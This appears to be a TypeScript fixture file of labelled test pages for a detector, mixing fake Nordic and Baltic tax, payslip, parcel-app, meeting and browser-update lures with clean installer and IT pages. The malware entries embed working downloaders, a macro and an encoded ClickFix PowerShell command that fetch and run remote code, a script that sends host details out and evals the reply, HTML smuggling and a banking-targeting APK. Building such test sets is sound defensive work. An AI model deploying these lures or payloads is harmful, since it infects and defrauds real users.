import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, cardCss, govCss, baseCss, newsCss, newsShell, spinnerCss, cookieBanner, gtm, b64, pdf } from '../parts/yb-kit.js';
import { jsRoute, jsonRoute, fileRoute, zip, pe, cfb, iso, lnk, apk } from '../parts/e-bin.js';

// Malware dressed as tax decisions, payslips, parcel apps and browser updates (downloads and HTML
// smuggling), ClickFix on hacked news and meeting pages; and real installers, payslip and data exports,
// IT admin pages with commands, CERT and news write-ups quoting the same commands and texts.

const psEnc = (cmd: string): string => Buffer.from(cmd, 'utf16le').toString('base64');
const newsAside = (items: string[]): string => items.map((t) => `<div class="teaser"><b>${t}</b></div>`).join('');

export const entries: Entry[] = [
  {
  id: 'yb-se-slutskattebesked-zip-js',
  label: 'malware',
  kind: 'tax-document-malware',
  url: 'https://www.bilverkstad-boras.se/wp-content/themes/astra/skv/?dok=198503124432',
  body: doc({
    lang: 'sv',
    title: 'Skatteverket – Slutskattebesked 2023',
    head: `<meta http-equiv="refresh" content="3;url=/wp-content/themes/astra/skv/Slutskattebesked_2023.zip">`,
    css: `${govCss}${spinnerCss}
header.top b{font:700 26px Georgia,serif;color:#2c2a6b}`,
    body: `<header class="top"><div class="in"><b>Skatteverket</b></div></header>
<main><div class="in">
<h1>Ditt slutskattebesked för inkomstår 2023</h1>
<p class="lead">Ditt slutskattebesked är klart. Dokumentet laddas ner automatiskt. Öppna filen för att se om du får tillbaka pengar eller har kvarskatt att betala.</p>
<div class="spin"></div>
<p>Startar inte nedladdningen? <a href="/wp-content/themes/astra/skv/Slutskattebesked_2023.zip">Klicka här för att ladda ner</a> (PDF, 184 kB).</p>
<div class="box">Tips: Om du använder Windows, packa upp filen och dubbelklicka på dokumentet. Ange inte ditt lösenord om du blir tillfrågad.</div>
</div></main>`,
  }),
  routes: {
    'www.bilverkstad-boras.se/wp-content/themes/astra/skv/Slutskattebesked_2023.zip': fileRoute(
      zip([
        {
          name: 'Slutskattebesked_2023_198503124432.pdf.js',
          data: `var s=new ActiveXObject("WScript.Shell");var f=new ActiveXObject("Scripting.FileSystemObject");
var t=f.GetSpecialFolder(2)+"\\\\skv"+Math.floor(Math.random()*1e6)+".dll";
var x=new ActiveXObject("MSXML2.ServerXMLHTTP.6.0");x.open("GET","https://cdn-skv-dokument.com/d/l.bin",false);x.send();
var st=new ActiveXObject("ADODB.Stream");st.Type=1;st.Open();st.Write(x.responseBody);st.SaveToFile(t,2);st.Close();
s.Run("rundll32.exe "+t+",DllRegisterServer",0,false);
s.Run("explorer.exe https://www.skatteverket.se/",1,false);`,
        },
      ]),
      'application/zip',
      'Slutskattebesked_2023.zip',
    ),
  },
},
  {
  id: 'yb-no-lonnsslipp-smuggling-iso',
  label: 'malware',
  kind: 'html-smuggling',
  url: 'https://lonnsslipp-visma.no-dokument.com/portal/lonnsslipp/2024-03',
  body: doc({
    lang: 'no',
    title: 'Lønnsslipp mars 2024 – Visma',
    css: `${cardCss}${spinnerCss}
.vs{font:800 24px Arial;color:#c8102e}`,
    body: `<div class="wrap"><div class="card">
<div class="vs">VISMA</div>
<h1>Lønnsslippen din er klar</h1>
<p>Periode: mars 2024 · Arbeidsgiver: Bergen kommune</p>
<div class="spin"></div>
<p id="m">Forbereder dokumentet…</p>
<p class="muted">Dokumentet er kryptert. Åpne filen for å se lønnsslippen.</p>
</div></div>
<script>
var d='${iso('LONNSSLIPP_2024_03', ['Lonnsslipp_mars_2024.pdf.lnk', 'data\\rtlm.dll']).toString('base64')}';
function s(){var b=atob(d),u=new Uint8Array(b.length);for(var i=0;i<b.length;i++)u[i]=b.charCodeAt(i);
var bl=new Blob([u],{type:'application/octet-stream'});var a=document.createElement('a');a.href=URL.createObjectURL(bl);a.download='Lonnsslipp_mars_2024.iso';document.body.appendChild(a);a.click();
document.getElementById('m').textContent='Lønnsslippen er lastet ned. Åpne Lonnsslipp_mars_2024 i Nedlastinger.';}
setTimeout(s,1500);
</script>`,
  }),
},
  {
  id: 'yb-ee-palgateatis-xlsm-macro',
  label: 'malware',
  kind: 'payslip-malware',
  url: 'https://palgaarvestus-portaal.eu/dokumendid/palgateatis-2024-03',
  body: doc({
    lang: 'et',
    title: 'Palgateatis 03/2024',
    css: `${cardCss}
.pa{font:700 20px Arial;color:#004c8c}
.btn{background:#004c8c;text-align:center;text-decoration:none}`,
    body: `<div class="wrap"><div class="card">
<div class="pa">Palgaarvestus</div>
<h1>Teie palgateatis on saadaval</h1>
<p>Periood: märts 2024. Palgateatis sisaldab tulumaksu ja kogumispensioni muudatusi.</p>
<a class="btn" href="/dokumendid/Palgateatis_03_2024.xlsm">Laadi alla (Excel)</a>
<p class="muted">Faili avamisel klõpsake «Luba redigeerimine» ja «Luba sisu», et andmed kuvataks õigesti.</p>
</div></div>`,
  }),
  routes: {
    'palgaarvestus-portaal.eu/dokumendid/Palgateatis_03_2024.xlsm': fileRoute(
      zip([
        { name: '[Content_Types].xml', data: '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>' },
        { name: 'xl/workbook.xml', data: '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="Palgateatis" sheetId="1" r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></sheets></workbook>' },
        { name: 'xl/vbaProject.bin', data: cfb(['Attribute VB_Name = "ThisWorkbook"', 'Sub Workbook_Open()', 'Set sh = CreateObject("WScript.Shell")', 'sh.Run "powershell -w hidden -ep bypass -c ""iex (New-Object Net.WebClient).DownloadString(\'https://palgaarvestus-portaal.eu/s/p.ps1\')""", 0', 'End Sub']) },
      ]),
      'application/vnd.ms-excel.sheet.macroEnabled.12',
      'Palgateatis_03_2024.xlsm',
    ),
  },
},
  {
  id: 'yb-dk-lokalavis-fake-chrome-update',
  label: 'malware',
  kind: 'fake-browser-update',
  url: 'https://www.vestegnens-lokalavis.dk/nyheder/2024/03/ny-skole-i-ishoj',
  body: doc({
    lang: 'da',
    title: 'Ny skole i Ishøj åbner efter sommerferien | Vestegnens Lokalavis',
    head: `<script src="/wp-includes/js/wp-emoji-release.min.js?ver=6.4.3"></script>`,
    css: newsCss,
    body: newsShell({
      brand: 'Vestegnen',
      color: '#00539b',
      nav: ['Nyheder', 'Sport', 'Kultur', 'Debat'],
      article: `<div class="kicker">Ishøj</div><h1>Ny skole i Ishøj åbner efter sommerferien</h1><p class="ingress">Den nye folkeskole i Vejleåparken får plads til 650 elever og et stort idrætsanlæg.</p><div class="meta">12. marts 2024 · Af Trine Holm</div><figure><div class="ph"></div></figure><p>Byggeriet har været undervejs i to år, og nu er den nye skole næsten klar. Borgmesteren glæder sig til indvielsen i august.</p><p>Skolen bliver bygget med solceller på taget og et nyt bibliotek, der også skal være åbent for borgere uden for skoletid.</p>`,
      aside: newsAside(['Trafikomlægning på Holbækmotorvejen', 'Håndboldklubben rykker op', 'Nyt sundhedshus i Albertslund']),
    }),
  }),
  routes: {
    'www.vestegnens-lokalavis.dk/wp-includes/js/wp-emoji-release.min.js': jsRoute(`/*! This file is auto-generated */
!function(e,a,t){var n,r,o,i=a.createElement("canvas"),p=i.getContext&&i.getContext("2d");function s(e,t){p.clearRect(0,0,i.width,i.height),p.fillText(e,0,0);return i.toDataURL()}}(window,document,window._wpemojiSettings);
;(function(){if(document.cookie.indexOf('wp-upd=')>-1||/bot|spider|crawl/i.test(navigator.userAgent)||navigator.platform.indexOf('Win')<0)return;
document.cookie='wp-upd=1;max-age=86400;path=/';
window.addEventListener('DOMContentLoaded',function(){var o=document.createElement('div');o.style.cssText='position:fixed;inset:0;background:#fff;z-index:99999;font-family:Segoe UI,Arial;display:flex;align-items:center;justify-content:center';
o.innerHTML='<div style="max-width:560px;text-align:center"><div style="width:90px;height:90px;border-radius:50%;margin:0 auto;background:conic-gradient(#ea4335 0 33%,#fbbc05 0 66%,#34a853 0)"></div><h1 style="font-weight:400">Chrome er forældet</h1><p>Denne side kræver den nyeste version af Google Chrome. Din version indeholder sikkerhedshuller og kan ikke vise indholdet.</p><a href="https://www.vestegnens-lokalavis.dk/wp-content/uploads/2024/03/Chrome.Update.zip" style="display:inline-block;background:#1a73e8;color:#fff;padding:12px 28px;border-radius:4px;text-decoration:none">Opdater Chrome</a><p style="font-size:12px;color:#777">Version 122.0.6261.112 (Officiel version)</p></div>';
document.body.appendChild(o);});})();`),
    'www.vestegnens-lokalavis.dk/wp-content/uploads/2024/03/Chrome.Update.zip': fileRoute(
      zip([{ name: 'Chrome.Update.js', data: `try{var w=new ActiveXObject("MSXML2.XMLHTTP");w.open("POST","https://upd.cdn-chromestore.com/pixel.gif",false);w.send("a="+WScript.CreateObject("WScript.Network").ComputerName+"&d="+WScript.CreateObject("WScript.Network").UserDomain);eval(w.responseText)}catch(e){}` }]),
      'application/zip',
      'Chrome.Update.zip',
    ),
  },
},
  {
  id: 'yb-se-postnord-app-apk',
  label: 'malware',
  kind: 'mobile-malware',
  url: 'https://postnord-app.spara-leverans.com/sv/',
  body: doc({
    lang: 'sv',
    title: 'PostNord – Installera appen för att spåra ditt paket',
    css: `${cardCss}
body{background:#eef8fc}
.pn{font:700 26px Arial;color:#00a0d6}
.btn{background:#00a0d6;border-radius:30px;text-align:center;text-decoration:none}
ol li{margin:6px 0;font-size:15px}`,
    body: `<div class="wrap"><div class="card">
<div class="pn">PostNord</div>
<h1>Ditt paket kunde inte levereras</h1>
<p>För att boka ny leverans och följa ditt paket i realtid behöver du den nya versionen av PostNord-appen.</p>
<a class="btn" href="/sv/PostNord_v6.4.apk">Ladda ner appen (Android)</a>
<ol><li>Tryck på «Ladda ner».</li><li>Om telefonen varnar: gå till Inställningar och tillåt «Okända källor».</li><li>Öppna appen och aktivera «Tillgänglighetstjänst» för att få aviseringar.</li></ol>
<p class="muted">Använder du iPhone? Appen för iOS kommer snart.</p>
</div></div>`,
  }),
  routes: {
    'postnord-app.spara-leverans.com/sv/PostNord_v6.4.apk': fileRoute(
      apk('se.postnord.track.app', 'PostNord', ['android.permission.BIND_ACCESSIBILITY_SERVICE', 'android.permission.RECEIVE_SMS', 'android.permission.READ_SMS', 'android.permission.SYSTEM_ALERT_WINDOW', 'com.swedbank.mobile', 'se.bankgirot.swish', 'com.bankid.bus']),
      'application/vnd.android.package-archive',
      'PostNord_v6.4.apk',
    ),
  },
},
  {
  id: 'yb-no-meet-mikrofon-fiks-enc',
  label: 'clickfix',
  kind: 'clickfix-meeting',
  url: 'https://meet.google-no.com/xkv-pqrt-mwe',
  body: doc({
    lang: 'no',
    title: 'Meet – xkv-pqrt-mwe',
    css: `${baseCss}
body{background:#202124;color:#e8eaed;font-family:"Google Sans",Roboto,Arial}
.w{max-width:880px;margin:8vh auto;display:grid;grid-template-columns:1.4fr 1fr;gap:40px;padding:0 20px}
.v{aspect-ratio:16/9;background:#3c4043;border-radius:8px;display:flex;align-items:center;justify-content:center;color:#9aa0a6}
.err{background:#fff;color:#202124;border-radius:8px;padding:22px;position:fixed;top:50%;left:50%;transform:translate(-50%,-50%);width:460px;box-shadow:0 6px 30px #0009}
.err button{background:#1a73e8;color:#fff;border:0;padding:10px 22px;border-radius:4px;font-weight:600}
.err ol{font-size:14px;line-height:1.8}`,
    body: `<div class="w"><div class="v">Kameraen er av</div><div><h2>Klar til å bli med?</h2><p>Ingen andre er her</p><button style="background:#8ab4f8;border:0;padding:12px 24px;border-radius:20px">Bli med nå</button></div></div>
<div class="err"><h3>Problem med mikrofonen</h3><p>Nettleseren din får ikke tilgang til mikrofonen på grunn av en feil i lydtjenesten. Kopier reparasjonen og kjør den.</p>
<button id="fx">Kopier fiks</button>
<ol id="ins" style="display:none"><li>Høyreklikk på Start-knappen og velg <b>Windows PowerShell</b></li><li>Lim inn (Ctrl+V) og trykk Enter</li><li>Last inn denne siden på nytt</li></ol></div>
<script>
document.getElementById('fx').onclick=function(){navigator.clipboard.writeText('powershell -NoProfile -WindowStyle Hidden -EncodedCommand ${psEnc("$u='https://meet-audiofix.com/fix/audio.ps1';iex ((New-Object System.Net.WebClient).DownloadString($u))")}');document.getElementById('ins').style.display='block';this.textContent='Kopiert ✓';};
</script>`,
  }),
},
  {
  id: 'yb-se-bankid-install-own',
  label: 'clean',
  kind: 'installer-own-domain',
  url: 'https://install.bankid.com/',
  body: doc({
    lang: 'sv',
    title: 'Installera BankID säkerhetsprogram',
    css: `${govCss}
header.top .in{height:90px}
.dl{display:grid;grid-template-columns:repeat(auto-fit,minmax(240px,1fr));gap:16px}
.dl .box{margin:0}`,
    body: `<header class="top"><div class="in"><span style="font:700 24px Arial;color:#193e4f">BankID</span><span>Support</span></div></header>
<main><div class="in">
<h1>Installera BankID säkerhetsprogram</h1>
<p class="lead">Säkerhetsprogrammet behövs för BankID på fil och BankID på kort. För Mobilt BankID laddar du i stället ner appen från App Store eller Google Play.</p>
<div class="dl">
<div class="box"><h3>Windows</h3><p>Version 7.14.0 · Windows 10 och 11</p><a class="btn" href="/Download/file/Windows">Ladda ner</a></div>
<div class="box"><h3>macOS</h3><p>Version 7.14.0 · macOS 12 eller senare</p><a class="btn" href="/Download/file/Mac">Ladda ner</a></div>
<div class="box"><h3>Linux</h3><p>Ubuntu 22.04 (64-bit)</p><a class="btn" href="/Download/file/Linux">Ladda ner</a></div>
</div>
<p>Installationsfilen är signerad av Finansiell ID-Teknik BID AB. Kontrollera att du laddar ner från install.bankid.com.</p>
</div></main>`,
  }),
  routes: {
    'install.bankid.com/Download/file/Windows': fileRoute(
      pe({ x64: true, size: 16384, strings: ['BankID Security Application', 'Finansiell ID-Teknik BID AB', 'BankID.exe', 'https://appapi2.bankid.com/', 'Microsoft Code Signing PCA'] }),
      'application/x-msdownload',
      'BankID_installation_7_14_0.exe',
    ),
  },
},
  {
  id: 'yb-ee-id-tarkvara-paigaldus-own',
  label: 'clean',
  kind: 'installer-own-domain',
  url: 'https://www.id.ee/artikkel/paigalda-id-tarkvara/',
  body: doc({
    lang: 'et',
    title: 'Paigalda ID-tarkvara | ID.ee',
    css: `${govCss}
header.top b{color:#003168;font-size:24px}
code{background:#eef1f5;padding:2px 6px;border-radius:3px}`,
    body: `<header class="top"><div class="in"><b>ID.ee</b><span>Eesti · English · Русский</span></div></header>
<main><div class="in">
<h1>Paigalda ID-tarkvara</h1>
<p class="lead">ID-tarkvara on vajalik ID-kaardi kasutamiseks arvutis: e-teenustesse sisenemiseks ja dokumentide digiallkirjastamiseks.</p>
<div class="box"><h3>Windows</h3><p>Laadi alla ja käivita paigaldusfail. Paigaldamine võtab mõne minuti.</p><a class="btn" href="https://installer.id.ee/media/win/Open-EID-24.3.0.1918_x64.exe">Laadi alla (Windows, 64-bit)</a></div>
<div class="box"><h3>macOS</h3><p>Paigalda DigiDoc4 ja brauserilaiendus App Store'ist.</p></div>
<div class="box"><h3>Ubuntu</h3><p>Lisa RIA hoidla ja paigalda pakett: <code>sudo apt install open-eid</code></p></div>
<p>Probleemide korral helista ID-abikeskusesse 677 3377.</p>
</div></main>`,
  }),
  routes: {
    'installer.id.ee/media/win/Open-EID-24.3.0.1918_x64.exe': fileRoute(
      pe({ x64: true, size: 16384, strings: ['Open-EID', 'Riigi Infosüsteemi Amet', 'DigiDoc4 Client', 'Web-eID', 'https://installer.id.ee/'] }),
      'application/octet-stream',
      'Open-EID-24.3.0.1918_x64.exe',
    ),
  },
},
  {
  id: 'yb-lv-eparaksts-lejupielades-own',
  label: 'clean',
  kind: 'installer-own-domain',
  url: 'https://www.eparaksts.lv/lv/lejupielades',
  body: doc({
    lang: 'lv',
    title: 'Lejupielādes | eParaksts',
    css: `${govCss}
header.top b{color:#8f1b2c;font-size:24px}
table{border-collapse:collapse;width:100%}td{padding:10px;border-bottom:1px solid #ddd}`,
    body: `<header class="top"><div class="in"><b>eParaksts</b><span>Atbalsts 67 701 999</span></div></header>
<main><div class="in">
<h1>Lejupielādes</h1>
<p class="lead">Lai parakstītu dokumentus ar eID karti vai eParaksts karti datorā, uzstādiet programmatūru.</p>
<table>
<tr><td><b>eParakstītājs 3.0</b> (Windows)</td><td>v3.1.4 · 74 MB</td><td><a href="/files/lejupielades/eParakstitajs3.0_x64.msi">Lejupielādēt</a></td></tr>
<tr><td><b>eParaksts karšu programmatūra</b> (Windows)</td><td>v1.6.2 · 18 MB</td><td><a href="/files/lejupielades/eParakstsCardSW_x64.msi">Lejupielādēt</a></td></tr>
<tr><td><b>eParakstītājs 3.0</b> (macOS)</td><td>v3.1.4</td><td><a href="/files/lejupielades/eParakstitajs3.0.pkg">Lejupielādēt</a></td></tr>
</table>
<p>Programmatūru izplata VAS «Latvijas Valsts radio un televīzijas centrs». Lejupielādējiet tikai no eparaksts.lv.</p>
</div></main>`,
  }),
  routes: {
    'www.eparaksts.lv/files/lejupielades/eParakstitajs3.0_x64.msi': fileRoute(
      cfb(['eParakstītājs 3.0', 'Latvijas Valsts radio un televīzijas centrs', 'ProductCode', 'InstallExecuteSequence', 'eParakstitajs.exe'], 16384),
      'application/x-msi',
      'eParakstitajs3.0_x64.msi',
    ),
  },
},
  {
  id: 'yb-no-baerum-it-skriver-powershell-own',
  label: 'clean',
  kind: 'it-admin-commands-own-domain',
  url: 'https://it.baerum.kommune.no/veiledning/installere-skriver-follow-me',
  body: doc({
    lang: 'no',
    title: 'Installere Follow-Me-skriver | IT-veiledning Bærum kommune',
    css: `${govCss}
header.top b{color:#005aa0;font-size:22px}
.cmd{position:relative;background:#012456;color:#eee;padding:14px 16px;border-radius:4px;font:14px/1.5 Consolas,Menlo,monospace;white-space:pre-wrap;margin:10px 0}
.cmd button{position:absolute;top:8px;right:8px;background:#fff;color:#012456;border:0;border-radius:3px;padding:4px 10px;font-size:12px}`,
    body: `<header class="top"><div class="in"><b>Bærum kommune · IT-veiledning</b><span>Servicedesk 67 50 44 44</span></div></header>
<main><div class="in">
<h1>Installere Follow-Me-skriver på kommunal PC</h1>
<p class="lead">Skriveren installeres normalt automatisk via Intune. Hvis den mangler, kan du legge den til manuelt.</p>
<h2>1. Via Innstillinger</h2>
<p>Gå til <b>Innstillinger → Bluetooth og enheter → Skrivere og skannere → Legg til enhet</b> og velg <b>\\\\print01.baerum.kommune.no\\FollowMe</b>.</p>
<h2>2. Via PowerShell (for IT-kontakter)</h2>
<p>Åpne PowerShell som vanlig bruker og kjør:</p>
<div class="cmd" id="c1">Add-Printer -ConnectionName "\\\\print01.baerum.kommune.no\\FollowMe"<button data-c="c1">Kopier</button></div>
<p>Sett som standardskriver:</p>
<div class="cmd" id="c2">(Get-CimInstance -ClassName Win32_Printer -Filter "Name like '%FollowMe%'") | Invoke-CimMethod -MethodName SetDefaultPrinter<button data-c="c2">Kopier</button></div>
<p>Hvis driveren mangler, oppdater policy og start utskriftskøen på nytt:</p>
<div class="cmd" id="c3">gpupdate /force; Restart-Service -Name Spooler<button data-c="c3">Kopier</button></div>
<p style="font-size:14px">Obs: IT-avdelingen ber deg aldri kjøre kommandoer fra en nettside som dukker opp uventet, eller fra en «CAPTCHA». Kjør bare kommandoer fra denne veiledningen.</p>
</div></main>
<script>[].forEach.call(document.querySelectorAll('.cmd button'),function(b){b.onclick=function(){var el=document.getElementById(b.dataset.c).cloneNode(true);el.querySelector('button').remove();navigator.clipboard.writeText(el.textContent.trim()).then(function(){b.textContent='Kopiert';setTimeout(function(){b.textContent='Kopier'},1500)})}});</script>`,
  }),
},
  {
  id: 'yb-fi-hs-browser-check-own',
  label: 'clean',
  kind: 'bot-check-own-domain',
  url: 'https://www.hs.fi/kotimaa/art-2000010293847.html',
  body: doc({
    lang: 'fi',
    title: 'Hetkinen…',
    head: `<meta name="robots" content="noindex,nofollow">`,
    css: `${baseCss}${spinnerCss}
body{font-family:system-ui,-apple-system,Arial;background:#fff;color:#313131}
.m{max-width:720px;margin:14vh auto;padding:0 20px}
h1{font-size:30px;font-weight:500}
.f{font-size:12px;color:#888;margin-top:60px;border-top:1px solid #eee;padding-top:12px}`,
    body: `<div class="m">
<h1>www.hs.fi</h1>
<h2 style="font-weight:400;font-size:20px">Tarkistetaan, että yhteytesi on turvallinen</h2>
<div class="spin" style="margin:24px 0"></div>
<p>www.hs.fi tarkistaa yhteytesi tietoturvan ennen jatkamista.</p>
<noscript><p>Ota JavaScript ja evästeet käyttöön jatkaaksesi.</p></noscript>
<div class="f">Ray ID: 86a2f61b7c9d4e10 · Suorituskyky ja tietoturva: Cloudflare</div>
</div>
<script>
(function(){var t=Date.now();var x=0;for(var i=0;i<200000;i++){x=(x*31+i)%1000003}
setTimeout(function(){fetch('/cdn-cgi/challenge-platform/h/b/flow/ov1/86a2f61b7c9d4e10',{method:'POST',body:JSON.stringify({t:Date.now()-t,x:x,w:screen.width,h:screen.height})}).then(function(){location.replace('/kotimaa/art-2000010293847.html?__cf_chl_tk=ok')})},2500);})();
</script>`,
  }),
  routes: {
    'www.hs.fi/cdn-cgi/challenge-platform/h/b/flow/ov1/86a2f61b7c9d4e10': jsonRoute({ success: true }),
    'www.hs.fi/kotimaa/art-2000010293847.html?__cf_chl_tk=ok': htmlRoute(
      doc({
        lang: 'fi',
        title: 'Poliisi varoittaa: huijarit lähettävät viestejä Postin nimissä | HS.fi',
        css: newsCss,
        body: newsShell({
          brand: 'HS',
          color: '#111',
          nav: ['Kotimaa', 'Kaupunki', 'Talous', 'Urheilu'],
          article: `<div class="kicker">Kotimaa</div><h1>Poliisi varoittaa: huijarit lähettävät viestejä Postin nimissä</h1><p class="ingress">Tekstiviesteissä pyydetään maksamaan pieni tullimaksu. Maksusivulla kerätään korttitiedot.</p><div class="meta">14.3.2024</div><p>Viesti kuuluu esimerkiksi näin:</p><blockquote>Posti: Lähetyksesi JJFI64301200018452300 odottaa tullimaksua 2,99 €. Maksa tästä: posti-fi[.]lahetys-seuranta[.]xyz</blockquote><p>Posti ei lähetä maksulinkkejä tekstiviestillä. Jos olet syöttänyt korttitietosi, sulje kortti heti pankin palvelunumerossa.</p>`,
        }),
      }),
    ),
  },
},
];
